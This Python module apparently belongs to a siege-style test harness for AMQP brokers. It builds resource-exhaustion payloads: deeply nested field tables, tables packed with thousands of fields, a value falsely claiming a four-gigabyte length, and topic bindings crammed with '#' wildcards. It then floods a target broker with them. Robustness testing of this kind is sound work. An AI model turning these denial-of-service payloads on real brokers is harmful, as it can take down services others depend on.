"""Field tables made to be dear: deep, long, lying about their size; and topic patterns that match in many ways."""

import random

import trio
from pamqp import commands

from interop.siege.hostile.victim import PROTOCOL_HEADER, Tally, Victim, flood, marshal, raw_frame, start_ok, swallow

# Room in a frame of 128 KiB, and in one before tune-ok.
_LARGE = 130_000
_EARLY = 7_900
_HASHED_QUEUES = 100
_HASHED_WORDS = 60


def nested(size: int) -> bytes:
    """A table in a table in a table … as deep as ``size`` bytes allow (7 bytes a level), without its own size."""
    table = b""
    while len(table) + 7 <= size:
        table = b"\x01aF" + len(table).to_bytes(4, "big") + table
    return table


def many_fields(size: int) -> bytes:
    """As many fields as fit: the empty name, no value."""
    return b"".join(b"\x03" + b"%03x" % (number % 4096) + b"V" for number in range(size // 5))


def lying() -> bytes:
    """A value that says it has four gigabytes."""
    return b"\x01aS\xff\xff\xff\xff" + bytes(100)


BOMBS = (nested, many_fields, lambda _: lying())


async def bomb_start_ok(victim: Victim, tally: Tally) -> None:
    """connection.start-ok with such client-properties; then again on a new connection."""
    async with victim.connected() as stream:
        make = BOMBS[tally.lives % len(BOMBS)]
        await stream.send_all(PROTOCOL_HEADER + start_ok("guest", make(_EARLY)))
        tally.units += 1
        with trio.move_on_after(0.1):
            await swallow(stream)


async def bomb_declare(victim: Victim, tally: Tally) -> None:
    """queue.declare and exchange.declare with such arguments."""
    async with victim.opened() as stream:
        which = tally.lives % len(BOMBS)
        table = (nested(690), many_fields(_LARGE), lying())[which]
        declare = b"\x00\x32\x00\x0a\0\0\x04bomb\x08" + len(table).to_bytes(4, "big") + table
        await flood(stream, raw_frame(1, 1, declare), tally)


async def bomb_headers(victim: Victim, tally: Tally) -> None:
    """Messages with such headers, to an exchange that has to look at them."""
    async with victim.opened() as stream:
        await stream.send_all(
            marshal(
                commands.Queue.Declare(queue="", exclusive=True),
                *(
                    commands.Queue.Bind(queue="", exchange="amq.headers", arguments={"x-match": "any", f"k{n}": n})
                    for n in range(20)
                ),
            )
        )
        table = (nested(690), many_fields(_LARGE - 100), lying())[tally.lives % len(BOMBS)]
        head = b"\x00\x3c\x00\x00" + bytes(8) + b"\x20\x00" + len(table).to_bytes(4, "big") + table
        message = marshal(commands.Basic.Publish(exchange="amq.headers", routing_key="")) + raw_frame(2, 1, head)
        await flood(stream, message, tally)


async def hashes(victim: Victim, tally: Tally) -> None:
    """Topic bindings full of #, and keys of 126 words."""
    rnd = random.Random(tally.lives)
    async with victim.opened() as stream:
        patterns = [".".join(rnd.choices("#*a", k=_HASHED_WORDS)) for _ in range(_HASHED_QUEUES)]
        binds = [commands.Queue.Bind(queue="", exchange="amq.topic", routing_key=pattern) for pattern in patterns]
        await stream.send_all(marshal(commands.Queue.Declare(queue="", exclusive=True), *binds))
        # Each time another key: the answer for one is remembered.
        messages = []
        for _ in range(50):
            key = ".".join(rnd.choices("ab", k=126))
            publish = marshal(commands.Basic.Publish(exchange="amq.topic", routing_key=key))
            messages.append(publish + raw_frame(2, 1, b"\x00\x3c\x00\x00" + bytes(8) + b"\x00\x00"))
        blob = b"".join(messages)
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_swallow_quietly, stream)
            while True:
                await stream.send_all(blob)
                tally.units += len(messages)


async def _swallow_quietly(stream: trio.SocketStream) -> None:
    try:
        await swallow(stream)
    except (OSError, trio.BrokenResourceError):
        pass
